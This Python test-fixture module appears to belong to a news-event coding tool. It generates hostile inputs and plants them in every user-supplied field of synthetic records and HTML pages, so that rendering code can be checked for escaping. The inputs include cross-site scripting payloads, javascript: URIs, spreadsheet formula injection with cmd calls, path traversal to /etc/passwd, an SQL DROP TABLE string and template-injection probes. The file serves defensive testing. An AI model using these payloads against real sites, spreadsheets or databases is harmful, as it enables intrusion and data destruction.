"""Texts that attack whoever shows them, made anew for each run: every one springs a trap where it is taken for more than words.

A trap calls ``sprung`` (which a watched page reports), asks for something under the address ``beacon``, or would be a formula or a command where a
table or a terminal runs it. Each attack stands in the places that strangers fill: text, title, outlet, author, address, names, aliases, ids, words
of claims and red lines. ``WORD`` is in all of them and harmless: where it is not shown, words were lost.
"""

from __future__ import annotations

from collections.abc import Iterator

from sitroom.records import Actor, Claim, Coding, Document, Event, Magnitude, Pattern, Place, RedLine, Role, Span, Statement, Tie

__all__ = ["WORD", "attacks", "coding", "codings", "long_coding", "pages"]

WORD = "lanternfish"


def attacks(beacon: str) -> dict[str, str]:
    """By name, the attack; ``beacon``: an address such as http://127.0.0.1:9999."""
    js = "sprung"
    return {
        "script": f"<script>{js}('script')</script>",
        "script asked for": f'<script src="{beacon}/script.js"></script>',
        "module": f'<script type="module">import "{beacon}/module.js"</script>',
        "island closed": f"</script><script>{js}('island')</script>",
        "island closed, odd case": f"</ScRiPt ><sCrIpT>{js}('case')</ScRiPt>",
        "island in a comment": f"<!--<script>{js}('comment')//",
        "comment closed": f"--><img src=x onerror={js}('comment-end')>",
        "section closed": f"]]><script>{js}('cdata')</script>",
        "title closed": f"</title><script>{js}('title')</script>",
        "style closed": f"</style><script>{js}('style')</script>",
        "textarea closed": f"</textarea><img src=x onerror={js}('textarea')>",
        "template closed": f"</template></noscript></select></svg><img src=x onerror={js}('template')>",
        "picture": f'<img src="{beacon}/img.png" onerror="{js}(1)" onload="{js}(2)">',
        "drawing": f"<svg onload={js}('svg')><animate onbegin={js}('animate') attributeName=x dur=1s></svg>",
        "drawn script": f"<svg><script href='data:,{js}(3)'></script><a xlink:href='javascript:{js}(4)'><text>tap</text></a></svg>",
        "formula of mathematics": f'<math><maction actiontype="statusline" xlink:href="javascript:{js}(5)">x</maction></math>',
        "mixed namespaces": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={js}(6)&gt;'>",
        "frame": f'<iframe srcdoc="<script>parent.{js}(7)</script>" src="{beacon}/frame"></iframe>',
        "embedded": f'<object data="{beacon}/object"></object><embed src="{beacon}/embed"><link rel=stylesheet href="{beacon}/css">',
        "preloaded": f'<link rel=prefetch href="{beacon}/prefetch"><link rel=dns-prefetch href="{beacon}"><link rel=manifest href="{beacon}/m">',
        "style asked for": f"<style>@import url('{beacon}/import.css'); * {{ background: url({beacon}/bg) !important }}</style>",
        "style of an element": f'<p style="position:fixed;inset:0;background:url({beacon}/inline)">over all</p>',
        "base": f'<base href="{beacon}/"><a href="x">{WORD}</a>',
        "refresh": f'<meta http-equiv="refresh" content="0;url={beacon}/refresh">',
        "form": f'<form action="{beacon}/form" id=f><input autofocus onfocus={js}(8)><button form=f formaction="javascript:{js}(9)">go</button>',
        "opened by itself": f"<details open ontoggle={js}(10)><summary>x</summary></details><marquee onstart={js}(11)>x</marquee>",
        "sound": f"<video autoplay><source onerror={js}(12)></video><audio src={beacon}/a autoplay></audio>",
        "body": f"<body onload={js}(13) onpageshow={js}(14)>",
        "out of a value": f'" onmouseover="{js}(15)" autofocus onfocus="{js}(16)" x="',
        "out of a value, single": f"' onpointerenter='{js}(17)' autofocus onfocus='{js}(18)' x='",
        "out of a value, bare": f"x onfocus={js}(19) autofocus tabindex=1 `",
        "address": f"javascript:{js}('address')",
        "address, odd": f"java\tscript:{js}(20)",
        "address, upper": f" JAVASCRIPT://%0a{js}(21)",
        "address with entities": f"&#106;avascript&colon;{js}(22)",
        "address of data": f"data:text/html,<script>parent.{js}(23)</script>",
        "address of code": f"vbscript:{js}(24)",
        "entities": f"&lt;script&gt;{js}(25)&lt;/script&gt;",
        "entities twice": f"&amp;lt;img src=x onerror={js}(26)&amp;gt;",
        "escapes of a script": rf"\u003cscript\u003e{js}(27)\u003c/script\u003e \x3cimg\x3e",
        "out of a string": f"\\\"); {js}(28); (\"'); {js}(29); ('`); ${{{js}(30)}}; (`",
        "template": "{{ 7 * 7 }} {% raw %} {# #} ${7*7} #{7*7} <%= 7*7 %> {{ cycler.__init__.__globals__ }}",
        "expression": "datum.x + event.view.sprung(31) + signal('a')",
        "prototype": '__proto__ constructor toString hasOwnProperty "},"__proto__":{"x":1},"',
        "line separators": "a\u2028b\u2029c\x85d",
        "markdown": f"[tap](javascript:{js}(32)) ![x]({beacon}/md.png) <{beacon}/auto> `</code>`",
        "right to left": "\u202egnp.exe \u2067evil\u2066 \u202dleft\u202c",
        "right to left, never closed": "\u202e\u202e\u2067\u2068backwards",
        "invisible": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u034fh\U000e0041i",
        "piled": "Z" + "\u0301\u0316\u0352" * 60,
        "controls": "nul\x00bell\x07escape\x1b[2J\x1b]0;x\x07del\x7fc1\x9b31m",
        "no characters": "\ufffe\uffff\U0001ffff\ufdd0\ufffd",
        "far planes": "\U0001f1ee\U0001f1f7 \U0001f469\u200d\U0001f680 \U00020000 \U0010fffd",
        "cell": f'=HYPERLINK("{beacon}/cell","tap")',
        "cell with a command": "+1+cmd|' /C calc'!A0",
        "cell at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "cell minus": '-2+3+"\r\n=1+1',
        "cell tab": "\t=1+1",
        "cell wide": "＝1+1",
        "path": "../../../etc/passwd",
        "path of another system": "..\\..\\con%2e%2e%2f%00",
        "question": "?a=b&c=d#e;f%20g%zz",
        "statement of a database": "'; DROP TABLE documents; --",
        "search": '" OR 1=1 * NEAR( AND NOT ^ : -',
        "long": "x" * 5_000,
    }  # fmt: skip


def codings(beacon: str) -> Iterator[Coding]:
    """One coding an attack, with records of every kind."""
    for i, (name, attack) in enumerate(attacks(beacon).items()):
        yield coding(f"d{i:03}", attack, outlet=f"{name.title()} Post", day=f"2031-02-{1 + i % 28:02}")


def coding(id: str, attack: str, *, outlet: str = "Harbour Post", day: str = "2031-02-03") -> Coding:
    """A coding in which all that strangers write is the attack. Only the names of the document's outlet are told apart by what they begin with."""
    who, other = f"{attack} {WORD}", f"Sudland {attack}"
    sentences = (
        f"{who} attacked {other} at {attack} on Monday, killing three. ",
        f"{who} said any {attack} {WORD} on the strait would be met with {attack} force. ",
        f"{attack} {WORD} will lead to {attack} hunger.",
    )
    text = "".join(sentences)
    starts = [0, len(sentences[0]), len(sentences[0]) + len(sentences[1])]

    def at(words: str, sentence: int) -> Span:
        start = text.index(words, starts[sentence])
        return start, start + len(words)

    evidence = [(start, start + len(own.rstrip())) for start, own in zip(starts, sentences, strict=True)]
    own = {"document": id, "confidence": 0.9, "reader": f"hand {attack}"}
    first, second = f"A{id}/{attack[:200]}", f"B{id}?{attack[:200]}"
    common = {"date": day, "date_precision": "day", **own}
    line = (at(f"{attack} {WORD}", 1)[0], at(" would", 1)[0])
    return Coding(
        document=Document(
            id=id, text=text, sha256=f"{id}-sha", title=f"{attack} {WORD}", outlet=f"{outlet} {attack}", author=attack, published=day, url=attack,
            language="en", names_source=attack, credit=attack,
        ),
        actors=[
            Actor(id=first, name=who, kind="state", country="NOR", aliases=[attack, f"the {attack}"], mentions=[at(who, 0)],
                  roles=[Role(title=attack, country="NOR", since="2029")]),
            Actor(id=second, name=other, kind="state", country=attack, sector=attack, mentions=[at(other, 0)]),
        ],
        events=[
            Event(id=f"e1{id}", type="ASSAULT", mode=["aerial"], status="actual", actors=[first], recipients=[second], trigger=at("attacked", 0),
                  evidence=evidence[0], place=Place(name=attack, span=at(attack, 0), country=attack), magnitude=Magnitude(killed=3),
                  actor_spans=[at(who, 0)], recipient_spans=[at(other, 0)], intensity=-9.0, **common),
            Event(id=f"e2{id}", type="THREATEN", mode=["violence"], status="actual", actors=[first], recipients=[second], trigger=at("met", 1),
                  evidence=evidence[1], statement=f"s1{id}", intensity=-7.0, **common),
            Event(id=f"e3{id}", type="ASSAULT", mode=[], status="future", actors=[first], recipients=[second], trigger=at("force", 1),
                  evidence=evidence[1], statement=f"s1{id}", intensity=-9.0, **common),
        ],
        statements=[
            Statement(id=f"s1{id}", speaker=first, source=at(who, 1), cue=at("said", 1), content=[(at("any", 1)[0], evidence[1][1])],
                      kind="quote", evidence=evidence[1], via=attack, **own),
        ],
        red_lines=[
            RedLine(id=f"r1{id}", issuer=first, condition=line, consequence=(at("be met", 1)[0], evidence[1][1] - 1), kind="threat",
                    evidence=evidence[1], statement=f"s1{id}", condition_pattern=Pattern(type="ASSAULT", actors=[second], recipients=[first]),
                    consequence_pattern=Pattern(type="ASSAULT", actors=[first], recipients=[second], event=f"e3{id}"), **own),
        ],
        claims=[
            Claim(id=f"c1{id}", claimant=first, cause=at(f"{attack} {WORD}", 2), effect=(at(" hunger", 2)[0] - len(attack), evidence[2][1] - 1),
                  sign=1, hedge="asserted", evidence=evidence[2], signal=at("will lead to", 2), **own),
        ],
        ties=[Tie(id=f"t1{id}", actors=(first, second), kind="war", sign=-1, evidence=evidence[0], **own)],
    )  # fmt: skip


def long_coding(size: int = 5_000_000) -> Coding:
    """A document of one paragraph of so many characters without a line end, an event at its beginning and one at its end."""
    head, tail = "Norland attacked Sudland. ", " Sudland attacked Norland in the far end."
    filling = f"{WORD} and plankton, "
    text = head + filling * ((size - len(head) - len(tail)) // len(filling)) + tail
    own = {"document": "dlong", "confidence": 0.9, "reader": "hand", "date": "2031-03-01", "date_precision": "day", "type": "ASSAULT", "mode": [],
           "status": "actual", "intensity": -9.0}  # fmt: skip
    last = len(text) - len(tail) + 1
    return Coding(
        document=Document(id="dlong", text=text, sha256="dlong-sha", title=f"A long {WORD}", outlet="Long Post", published="2031-03-01"),
        actors=[Actor(id="NOR", name="Norland", kind="state"), Actor(id="SUD", name="Sudland", kind="state")],
        events=[
            Event(id="elong1", actors=["NOR"], recipients=["SUD"], trigger=(8, 16), evidence=(0, 25), **own),
            Event(id="elong2", actors=["SUD"], recipients=["NOR"], trigger=(last + 8, last + 16), evidence=(last, len(text)), **own),
        ],
    )


def pages(beacon: str) -> Iterator[tuple[str, bytes]]:
    """Files as they come from outside: by name, the bytes of a page that holds the attack in its markup and in its words."""
    for i, (name, attack) in enumerate(attacks(beacon).items()):
        shown = attack.replace("&", "&amp;").replace("<", "&lt;")
        words = f"Norland attacked Sudland on Monday, said the {WORD} {shown}. The harbour stayed closed for the rest of the week."
        page = (
            f"<!doctype html><html lang=en><head><meta charset=utf-8><title>{shown} {WORD} {name}</title></head><body>{attack}"
            f"<article><h1>{shown}</h1><p>{words}</p></article></body></html>"
        )
        yield f"{i:03}.html", page.encode("utf-8") + b"<p>\xed\xa0\x80 half, \xff\xfe none, \xc0\xaf too long</p>"
